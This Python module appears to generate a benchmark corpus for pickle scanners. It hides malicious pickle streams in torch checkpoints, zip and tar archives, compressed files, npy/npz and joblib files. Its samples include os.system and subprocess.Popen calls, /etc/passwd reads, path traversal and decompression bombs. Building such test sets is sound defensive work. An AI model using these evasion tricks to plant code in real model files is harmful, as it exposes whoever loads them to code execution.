"""Pickles inside what carries them: torch's three layouts, joblib, NumPy files, archives within archives."""

from __future__ import annotations

import bz2
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator
from random import Random

from bench.scan.corpus import archives as z
from bench.scan.corpus import assembler as a
from bench.scan.corpus.archives import BZIP2, DEFLATED, LZMA, Member
from bench.scan.corpus.sample import Sample, chance_of, payload, stream

Pack = Callable[[bytes], bytes]
Made = Iterator[tuple[str, bytes] | tuple[str, bytes, str]]
TORCH_MAGIC = a.whole(a.long1(b"\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19"), 2)
TORCH_VERSION = a.whole(a.binint2(1001), 2)
TORCH_SYSTEM = a.whole(
    a.dict_((a.binunicode("little_endian"), a.NEWTRUE), (a.binunicode("protocol_version"), a.binint2(1001))),
    2,
)
STATE = a.whole(
    a.call(
        a.global_("torch._utils", "_rebuild_tensor_v2"),
        a.tuple_(
            a.binunicode("storage"),
            a.global_("torch", "FloatStorage"),
            a.binunicode("0"),
            a.binunicode("cpu"),
            a.binint1(16),
        )
        + a.BINPERSID,
        a.binint1(0),
        a.tuple_(a.binint1(4), a.binint1(4)),
        a.tuple_(a.binint1(4), a.binint1(1)),
        a.NEWFALSE,
        a.call(a.global_("collections", "OrderedDict")),
    ),
    2,
)


def torch_zips(chance: Random) -> Made:
    """The layout of torch.save since 1.6, and everything that can stand beside data.pkl."""
    bad = stream(chance)
    yield "plain.pt", z.torch_zip(bad)
    for extension in ("bin", "ckpt", "pth", "pt2", "model", "zip", "safetensors", "json", "png", "onnx"):
        yield f"plain-as.{extension}", z.torch_zip(bad)
    yield "plain-no-extension", z.torch_zip(bad)
    yield "deflated.pt", z.zip_([Member("m/data.pkl", bad, DEFLATED), Member("m/version", b"3\n")])
    yield "bzip2.pt", z.zip_([Member("m/data.pkl", bad, BZIP2), Member("m/version", b"3\n")])
    yield "lzma.pt", z.zip_([Member("m/data.pkl", bad, LZMA), Member("m/version", b"3\n")])
    yield "payload-in-constants.pt", z.torch_zip(STATE, more=[Member("archive/constants.pkl", bad)])
    yield "payload-in-other-root.pt", z.torch_zip(STATE, more=[Member("extra/data.pkl", bad)])
    yield "payload-in-extra-files.pt", z.torch_zip(STATE, more=[Member("archive/extra/notes.txt", bad)])
    yield "payload-in-storage.pt", z.torch_zip(STATE, more=[Member("archive/data/1", bad)]), "gray"
    yield "payload-in-attributes.pt", z.torch_zip(STATE, more=[Member("archive/attributes.pkl", bad)])
    yield "payload-in-bytecode.ptl", z.torch_zip(STATE, more=[Member("archive/bytecode.pkl", bad)])
    yield (
        "payload-in-tensors.pt",
        z.torch_zip(STATE, more=[Member("archive/code/__torch__.py.debug_pkl", bad)]),
    )
    yield (
        "two-data-pkl.pt",
        z.zip_([Member("m/data.pkl", STATE), Member("m/data.pkl", bad), Member("m/version", b"3\n")]),
    )
    yield (
        "two-data-pkl-swapped.pt",
        z.zip_([Member("m/data.pkl", bad), Member("m/data.pkl", STATE), Member("m/version", b"3\n")]),
    )
    yield "data-pkl-upper.pt", z.zip_([Member("m/DATA.PKL", bad), Member("m/version", b"3\n")])
    yield "data-pkl-backslash.pt", z.zip_([Member("m\\data.pkl", bad), Member("m/version", b"3\n")])
    yield "data-pkl-root.pt", z.zip_([Member("data.pkl", bad), Member("version", b"3\n")])
    yield "second-stream-in-data-pkl.pt", z.torch_zip(STATE + bad)
    yield (
        "package-module.pt",
        z.zip_(
            [
                Member("p/.data/version", b"6\n"),
                Member("p/model/model.pkl", bad),
                Member("p/pwned.py", b"import os\nos.system('echo pwned')\n"),
            ]
        ),
    )
    yield (
        "package-code-only.pt",
        z.zip_(
            [
                Member("p/.data/version", b"6\n"),
                Member("p/.data/extern_modules", b"os\n"),
                Member("p/model/model.pkl", a.whole(a.named("pwned", "Model") + a.EMPTY_TUPLE + a.NEWOBJ)),
                Member("p/pwned.py", b"import os\nos.system('echo pwned')\n"),
            ]
        ),
    )
    for label, code in {
        "from-file": "torch.from_file('/etc/passwd', False, 10)",
        "save": "torch.save([x], './pwned')",
        "load-library": "ops.pwned.run('echo pwned')",
        "rpc": "ops.distributed_rpc.rpc_sync(x, 'f')",
        "getattr-ops": "ops.prim.Python('echo pwned')",
    }.items():
        source = f"class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    _0 = {code}\n    return x\n  def __setstate__(self: __torch__.M, state: Tensor) -> NoneType:\n    _1 = {code}\n    return None\n"
        model = a.whole(a.global_("__torch__", "M") + a.EMPTY_TUPLE + a.NEWOBJ + a.EMPTY_DICT + a.BUILD, 2)
        yield (
            f"torchscript-{label}.pt",
            z.zip_(
                [
                    Member("s/data.pkl", model),
                    Member("s/code/__torch__.py", source.encode()),
                    Member("s/constants.pkl", a.whole(a.EMPTY_TUPLE, 2)),
                    Member("s/version", b"3\n"),
                ]
            ),
        )
    big = STATE.replace(a.binint1(16), a.binint(2**30))
    yield (
        "tensor-beyond-storage.pt",
        z.torch_zip(
            STATE.replace(a.tuple_(a.binint1(4), a.binint1(4)), a.tuple_(a.binint2(4096), a.binint2(4096)), 1)
        ),
    )
    yield "storage-told-bigger.pt", z.torch_zip(big)
    yield (
        "tensor-negative-stride.pt",
        z.torch_zip(
            STATE.replace(a.tuple_(a.binint1(4), a.binint1(1)), a.tuple_(a.binint(-4), a.binint1(1)))
        ),
    )
    yield (
        "tensor-offset-outside.pt",
        z.torch_zip(STATE.replace(a.BINPERSID + a.binint1(0), a.BINPERSID + a.binint(2**30))),
    )


def legacy(chance: Random) -> Made:
    """torch before 1.6: five pickles and storages, or a tar."""
    bad = stream(chance)
    keys = a.whole(a.EMPTY_LIST, 2)
    parts = [TORCH_MAGIC, TORCH_VERSION, TORCH_SYSTEM, STATE, keys]
    for index, label in enumerate(("magic", "version", "system", "object", "keys")):
        changed = [*parts]
        changed[index] = bad
        yield f"legacy-payload-in-{label}.pth", b"".join(changed) + b"\0" * 72
    yield "legacy-sixth-pickle.pth", b"".join(parts) + bad
    yield "legacy-after-storage.pth", b"".join(parts) + struct.pack("<q", 16) + b"\0" * 64 + bad, "gray"
    yield (
        "legacy-magic-computed.pth",
        a.whole(a.call(a.global_("builtins", "eval"), a.binunicode("0x1950a86a20f9469cfc6c")), 2)
        + b"".join(parts[1:]),
    )
    yield "legacy-no-extension", b"".join([*parts[:3], bad, keys])
    members = [
        ("sys_info", TORCH_SYSTEM),
        ("storages", a.whole(a.binint1(0), 2)),
        ("tensors", a.whole(a.binint1(0), 2)),
        ("pickle", STATE),
    ]
    for index, (label, _) in enumerate(members):
        changed_tar = [*members]
        changed_tar[index] = (label, bad)
        yield f"tar-payload-in-{label}.pth", z.tar(changed_tar)
    yield "tar-gz.pth", z.tar([*members[:3], ("pickle", bad)], "w:gz")


def zips(chance: Random) -> Made:
    """Directories and local headers that tell different things."""
    bad = stream(chance)
    good = Member("m/version", b"3\n")
    innocent = a.whole(a.EMPTY_DICT, 2)
    flags = {
        "encrypted": 1,
        "descriptor": 8,
        "patch": 0x20,
        "strong": 0x40,
        "utf8": 0x800,
        "masked": 0x2000,
        "all": 0xFFFF,
    }
    for label, bits in flags.items():
        yield f"flags-{label}.pt", z.zip_([Member("m/data.pkl", bad, flags=bits), good])
        yield f"local-flags-{label}.pt", z.zip_([Member("m/data.pkl", bad, local_flags=bits), good])
    yield "crc-wrong.pt", z.zip_([Member("m/data.pkl", bad, crc=1), good])
    yield "crc-differs.pt", z.zip_([Member("m/data.pkl", bad, local_crc=7), good])
    yield "size-zero-in-directory.pt", z.zip_([Member("m/data.pkl", bad, size=0, local_size=len(bad)), good])
    yield "size-huge.pt", z.zip_([Member("m/data.pkl", bad, size=2**31, local_size=len(bad)), good])
    yield "size-short.pt", z.zip_([Member("m/data.pkl", bad, size=5, local_size=len(bad)), good])
    yield "local-name-differs.pt", z.zip_([Member("m/data.pkl", bad, local_name="m/readm.txt"), good])
    yield "directory-name-differs.pt", z.zip_([Member("m/readm.txt", bad, local_name="m/data.pkl"), good])
    yield "name-nul.pt", z.zip_([Member("m/data.pkl\0.txt", bad), good])
    yield "name-absolute.pt", z.zip_([Member("/m/data.pkl", bad), good])
    yield "name-traversal.pt", z.zip_([Member("../../m/data.pkl", bad), good])
    yield "name-directory.pt", z.zip_([Member("m/data.pkl/", bad), good])
    yield "name-utf8-trick.pt", z.zip_([Member("m/dаta.pkl", bad), Member("m/data.pkl", innocent), good])
    yield "method-told-deflate.pt", z.zip_([Member("m/data.pkl", bad, told_method=8), good])
    yield "method-told-unknown.pt", z.zip_([Member("m/data.pkl", bad, told_method=99), good])
    yield "method-told-zstd.pt", z.zip_([Member("m/data.pkl", z.zstd(bad), told_method=93), good])
    yield (
        "unlisted-member.pt",
        z.zip_([Member("m/data.pkl", innocent), good, Member("m/x.pkl", bad, in_directory=False)]),
    )
    yield (
        "listed-only.pt",
        z.zip_([Member("m/data.pkl", bad), Member("m/gone.pkl", b"", in_file=False), good]),
    )
    yield (
        "prefix-script.pt",
        z.zip_([Member("m/data.pkl", bad), good], prefix=b"#!/bin/sh\necho pwned\nexit\n"),
    )
    yield "prefix-pickle.pt", z.zip_([Member("m/data.pkl", innocent), good], prefix=bad)
    yield "prefix-png.pt", z.zip_([Member("m/data.pkl", bad), good], prefix=b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    yield "gap-pickle.pt", z.zip_([Member("m/data.pkl", innocent), good], gap=bad)
    yield "comment-pickle.pt", z.zip_([Member("m/data.pkl", innocent), good], comment=bad), "gray"
    yield "suffix-pickle.pt", z.zip_([Member("m/data.pkl", bad), good], suffix=b"\0" * 100)
    yield "count-zero.pt", z.zip_([Member("m/data.pkl", bad), good], count=0)
    yield "count-more.pt", z.zip_([Member("m/data.pkl", bad), good], count=9)
    yield "directory-shifted.pt", z.zip_([Member("m/data.pkl", bad), good], shift=11)
    yield "no-end-record.pt", z.zip_([Member("m/data.pkl", bad), good])[:-22]
    yield (
        "two-end-records.pt",
        z.zip_([Member("m/data.pkl", innocent), good]) + z.zip_([Member("m/data.pkl", bad), good]),
    )
    inner = z.zip_([Member("data.pkl", bad)])
    for depth in range(2, 7):
        inner = z.zip_([Member(f"level{depth}.zip", inner, DEFLATED)])
        yield f"nested-{depth}.zip", inner
    yield (
        "zip-in-torch.pt",
        z.torch_zip(STATE, more=[Member("archive/extra/a.zip", z.zip_([Member("a.pkl", bad)]))]),
    )
    yield "pickle-in-zip-as-text.zip", z.zip_([Member("readme.txt", bad)])
    yield (
        "pickle-among-300.zip",
        z.zip_([*(Member(f"w/{n}.json", b"{}") for n in range(300)), Member("w/last", bad)]),
    )
    yield (
        "extra-field-name.pt",
        z.zip_(
            [
                Member(
                    "m/readm.txt",
                    bad,
                    extra=b"up\x10\0\1" + struct.pack("<I", zlib.crc32(b"m/readm.txt")) + b"m/data.pkl\0",
                ),
                good,
            ]
        ),
    )


def compressed(chance: Random) -> Made:
    """Whole pickles, compressed, archived and disguised."""
    bad = stream(chance)
    packers: dict[str, Pack] = {
        "gzip": z.gzip_, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress, "lz4": z.lz4, "zstd": z.zstd,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    }  # fmt: skip
    for label, pack in packers.items():
        yield f"{label}.pkl", pack(bad)
        yield f"{label}-no-extension", pack(bad)
        yield f"{label}-twice.pkl", pack(pack(bad))
        yield f"{label}-in-zip.zip", z.zip_([Member("w.bin", pack(bad))])
    yield "zlib-level-0.pkl", zlib.compress(bad, 0)
    yield "zlib-level-1.pkl", zlib.compress(bad, 1)
    yield "gzip-two-members.pkl.gz", z.gzip_(a.whole(a.EMPTY_DICT)) + z.gzip_(bad)
    yield "gzip-trailing-pickle.gz", z.gzip_(a.whole(a.EMPTY_DICT)) + bad, "gray"
    yield "gzip-named.gz", b"\x1f\x8b\x08\x08\0\0\0\0\0\xffreadme.txt\0" + z.gzip_(bad)[10:]
    yield "gzip-bad-crc.gz", z.gzip_(bad)[:-8] + b"\0" * 8
    yield "gzip-cut.gz", z.gzip_(bad)[:-6]
    yield "raw-deflate.bin", zlib.compress(bad)[2:-4], "gray"
    for mode in ("w", "w:gz", "w:bz2", "w:xz"):
        kind = mode.partition(":")[2] or "plain"
        yield f"tar-{kind}.tar", z.tar([("model/weights.pkl", bad)], mode)
    yield "tar-in-tar.tar", z.tar([("inner.tar", z.tar([("w", bad)]))])
    yield "tar-link.tar", z.tar([("a/w.bin", bad)], links=[("a/l", "/etc/passwd")])
    yield "tar-traversal.tar", z.tar([("../../w.pkl", bad)])
    yield "tar-two-same.tar", z.tar([("w.pkl", a.whole(a.EMPTY_DICT)), ("w.pkl", bad)])
    yield "tar-long-name.tar", z.tar([("d/" * 120 + "w.pkl", bad)])
    yield "tar-no-end.tar", z.tar([("w.pkl", bad)])[:1536]
    yield "tar-after-end.tar", z.tar([("a.txt", b"x")]) + z.tar([("w.pkl", bad)]), "gray"
    yield "seven.7z", z.seven_zip("weights.pkl", bad)
    yield "seven-as.bin", z.seven_zip("weights", bad)
    yield "seven-in.zip", z.zip_([Member("a.7z", z.seven_zip("weights.pkl", bad))])
    bomb = z.zip_(
        [Member("w.pkl", a.proto(4) + (a.NONE + a.POP) * 15_000_000 + payload(chance) + a.STOP, DEFLATED)]
    )
    yield "zip-of-30-million-opcodes.zip", bomb
    yield (
        "gzip-of-100-megabytes-then-payload.gz",
        z.gzip_(a.proto(4) + a.binbytes(bytes(100_000_000)) + a.POP + payload(chance) + a.STOP),
    )
    names = ("model.pkl", "model.pickle", "model.p", "model.joblib", "model.dat", "model.data", "model.bin", "model.npy", "model.npz", "model.h5", "model.onnx", "model.gguf", "model.safetensors", "model.keras", "model.pb", "model.txt", "model.md", "model.json", "model.yaml", "model.csv", "model.png", "model.wav", "model.so", "model.py", "model", ".model", "model.", "model.pkl.txt", "modèle.pkl", "model name.pkl", "MODEL.PICKLE", "model.pkl~", "optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin", "vocab.pkl", "tokenizer.model", "README", "config.json.bak")  # fmt: skip
    for number, name in enumerate(names):
        yield f"named/{number:02d}/{name}", stream(chance)


def arrays(chance: Random) -> Made:
    """npy, npz and joblib."""
    bad = stream(chance)

    def npy(header: str, body: bytes, version: int = 1) -> bytes:
        text = header.encode() + b"\n"
        return (
            b"\x93NUMPY"
            + bytes([version, 0])
            + struct.pack("<H" if version == 1 else "<I", len(text))
            + text
            + body
        )

    plain = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    for version in (1, 2, 3):
        yield f"object-v{version}.npy", npy(plain, bad, version)
    for label, header in {
        "object-scalar": "{'descr': '|O', 'fortran_order': False, 'shape': (), }",
        "object-empty": "{'descr': '|O', 'fortran_order': False, 'shape': (0,), }",
        "object-O8": "{'descr': 'O8', 'fortran_order': False, 'shape': (2,), }",
        "structured": "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }",
        "structured-nested": "{'descr': [('a', [('b', [('c', '|O')])])], 'fortran_order': True, 'shape': (1,), }",
        "structured-subarray": "{'descr': [('a', '|O', (3,))], 'fortran_order': False, 'shape': (1,), }",
        "header-reordered": "{'shape': (1,), 'fortran_order': False, 'descr': '|O'}",
        "header-spaces": "{ 'descr' :   'O' , 'fortran_order' : False , 'shape' : ( 1 , ) }",
        "header-escapes": "{'de\\x73cr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }",
        "header-comment": "{'descr': '|O', # f4\n'fortran_order': False, 'shape': (1,), }",
        "header-twice": "{'descr': '<f4', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    }.items():
        yield f"{label}.npy", npy(header, bad)
    yield (
        "code-in-header.npy",
        npy("{'descr': __import__('os').system('echo pwned'), 'fortran_order': False, 'shape': (1,)}", b""),
    )
    yield (
        "shape-huge.npy",
        npy("{'descr': '<f8', 'fortran_order': False, 'shape': (4611686018427387904, 8), }", b"\0" * 64),
        "gray",
    )
    yield (
        "header-64-kilobytes.npy",
        npy("{'descr': '<f8', 'fortran_order': False, 'shape': (" + "(" * 60000, b""),
        "gray",
    )
    yield "no-extension", npy(plain, bad)
    numbers = npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", b"\0" * 8)
    yield "trailing.npy", numbers + bad, "gray"
    yield "second-array.npz", z.zip_([Member("a.npy", numbers), Member("b.npy", npy(plain, bad))])
    yield "deflated.npz", z.zip_([Member("b.npy", npy(plain, bad), DEFLATED)])
    yield "not-npy-inside.npz", z.zip_([Member("a.npy", numbers), Member("b", bad)])
    yield "as-bin.bin", z.zip_([Member("arr_0.npy", npy(plain, bad))])
    wrapper = a.named("joblib.numpy_pickle", "NumpyArrayWrapper") + a.EMPTY_TUPLE + a.NEWOBJ
    dtype = a.call(a.named("numpy", "dtype"), a.short("f8"), a.NEWFALSE, a.NEWTRUE)

    def wrapped(code: bytes, count: int, order: str = "C") -> bytes:
        state = a.dict_(
            (a.short("subclass"), a.named("numpy", "ndarray")), (a.short("shape"), a.tuple_(a.binint1(count))),
            (a.short("order"), a.short(order)), (a.short("dtype"), code), (a.short("allow_mmap"), a.NEWTRUE),
            (a.short("numpy_array_alignment_bytes"), a.NONE),
        )  # fmt: skip
        return wrapper + state + a.BUILD

    body = (
        a.proto(4)
        + a.EMPTY_LIST
        + a.MARK
        + wrapped(dtype, 2)
        + b"\0" * 16
        + payload(chance)
        + a.APPENDS
        + a.STOP
    )
    yield "payload-after-array.joblib", body
    objects = a.call(a.named("numpy", "dtype"), a.short("O8"), a.NEWFALSE, a.NEWTRUE)
    yield "object-array.joblib", a.proto(4) + wrapped(objects, 1) + bad + a.STOP
    yield (
        "array-told-short.joblib",
        a.proto(4) + a.EMPTY_LIST + wrapped(dtype, 1) + b"\0" * 8 + a.APPEND + payload(chance) + a.STOP,
    )
    yield (
        "subclass-changed.joblib",
        a.proto(4)
        + wrapper
        + a.dict_(
            (a.short("subclass"), a.named("subprocess", "Popen")),
            (a.short("shape"), a.tuple_(a.binint1(1))),
            (a.short("order"), a.short("C")),
            (a.short("dtype"), dtype),
            (a.short("allow_mmap"), a.NEWFALSE),
        )
        + a.BUILD
        + b"\0" * 8
        + a.STOP,
    )
    yield (
        "array-bytes-look-like-opcodes.joblib",
        a.proto(4)
        + a.EMPTY_LIST
        + a.MARK
        + wrapped(dtype, 2)
        + b".........."
        + b"\0" * 6
        + payload(chance)
        + a.APPENDS
        + a.STOP,
    )
    packers: dict[str, Pack] = {
        "zlib": zlib.compress,
        "gzip": z.gzip_,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE),
        "lz4": z.lz4,
    }
    for label, pack in packers.items():
        yield f"compressed-{label}.joblib", pack(body)
        yield f"compressed-{label}.pkl.z", pack(bad)
    zipped = zlib.compress(bad)
    yield "zf-legacy.joblib", b"ZF" + hex(len(bad)).encode().ljust(19) + zipped
    yield "zf-legacy-length-wrong.joblib", b"ZF" + hex(9).encode().ljust(19) + zipped
    yield (
        "nd-array-wrapper.pkl",
        a.whole(
            a.global_("joblib.numpy_pickle", "NDArrayWrapper")
            + a.EMPTY_TUPLE
            + a.NEWOBJ
            + a.dict_(
                (a.binunicode("filename"), a.binunicode("../../../etc/passwd")),
                (a.binunicode("subclass"), a.global_("numpy", "ndarray")),
            )
            + a.BUILD,
            2,
        ),
        "gray",
    )
    yield (
        "znd-array-wrapper.pkl",
        a.whole(
            a.global_("joblib.numpy_pickle_compat", "ZNDArrayWrapper")
            + a.EMPTY_TUPLE
            + a.NEWOBJ
            + a.dict_(
                (a.binunicode("filename"), a.binunicode("x_01.npy.z")),
                (a.binunicode("init_args"), a.tuple_(a.global_("os", "system"), a.EMPTY_TUPLE, a.NONE)),
                (a.binunicode("state"), a.NONE),
            )
            + a.BUILD,
            2,
        ),
    )


GROUPS = (torch_zips, legacy, zips, compressed, arrays)


def samples(seed: int) -> Iterator[Sample]:
    """Every container."""
    for group in GROUPS:
        folder = group.__name__.replace("_", "-")
        chance = chance_of(seed, f"container:{folder}")
        for made in group(chance):
            name, data = made[0], made[1]
            tier = made[2] if len(made) == 3 else "core"
            yield Sample(f"container/{folder}/{name}", data, f"{folder}:{name}", "container", tier)
